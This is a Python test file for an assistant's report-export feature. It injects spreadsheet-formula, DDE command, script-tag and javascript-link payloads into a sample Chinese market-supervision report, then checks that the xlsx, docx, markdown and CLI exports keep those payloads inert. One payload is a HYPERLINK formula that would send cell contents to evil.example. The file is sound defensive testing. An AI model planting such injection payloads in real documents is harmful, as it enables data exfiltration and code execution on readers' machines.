"""Exports carry no payload from a report: no live formula, no HTML or link, no character that breaks the file."""
import io
import zipfile

import docx
import openpyxl
from markdown_it import MarkdownIt

from assistant import api
from assistant.ingest import read_bytes
from assistant.review.export import export_review
from tests.conftest import SAMPLES, run_cli

SAMPLE = SAMPLES / "000_9f4ecd25e267d59e.txt"
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "<script>alert(1)</script>", "[点此](javascript:alert(1))"]


def hostile_report() -> bytes:
    """Sample 000 with a control character in the unit name and formula/HTML payloads written into indicator names
    (a formula opens the name, as a spreadsheet would run it; markup follows the name)."""
    text = SAMPLE.read_text(encoding="utf-8")
    text = text.replace("石鼓区市场监督管理局", "石鼓区市场\x01监督管理局", 1)
    for payload, name in zip(PAYLOADS, ("执法及宣传次数", "检测、培育及车辆费用", "挽回经济损失", "社会公众满意度",
                                        "安全放心的市场环境", "公众意识")):
        text = text.replace(name, payload + name if payload[0] in "=+-@" else name + payload)
    return text.encode("utf-8")


def reviewed():
    return api.review(read_bytes(hostile_report(), "hostile.txt"))


def test_xlsx_export_has_no_formula_and_keeps_the_payload_as_text():
    book = openpyxl.load_workbook(io.BytesIO(export_review(reviewed(), "xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert any(PAYLOADS[0] in text for text in texts)  # kept, as text
    assert not any("\x01" in text for text in texts)


def test_docx_export_opens_and_drops_control_characters():
    document = docx.Document(io.BytesIO(export_review(reviewed(), "docx")))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "石鼓区市场监督管理局" in text and "\x01" not in document.element.xml


def test_markdown_export_passes_no_html_or_link_through():
    text = export_review(reviewed(), "md").decode("utf-8")
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert "<script" not in html and "<a " not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "javascript:alert(1)" in html  # shown, inert


def test_cli_writes_every_format_of_a_hostile_report(tmp_path):
    source = tmp_path / "hostile.txt"
    source.write_bytes(hostile_report())
    for suffix in ("xlsx", "docx", "md", "json"):
        out = tmp_path / f"memo.{suffix}"
        result = run_cli("review", str(source), "-o", str(out))
        assert result.returncode == 0, result.stderr.decode("utf-8")
        assert out.stat().st_size > 0
    assert zipfile.is_zipfile(tmp_path / "memo.docx")


def test_batch_overview_has_no_formula(tmp_path):
    inbox = tmp_path / "in"
    inbox.mkdir()
    (inbox / "hostile.txt").write_bytes(hostile_report())
    result = run_cli("batch", str(inbox), "-o", str(tmp_path / "out"), "--jobs", "1")
    assert result.returncode == 0, result.stderr.decode("utf-8")
    book = openpyxl.load_workbook(tmp_path / "out" / "overview.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK") for cell in cells)
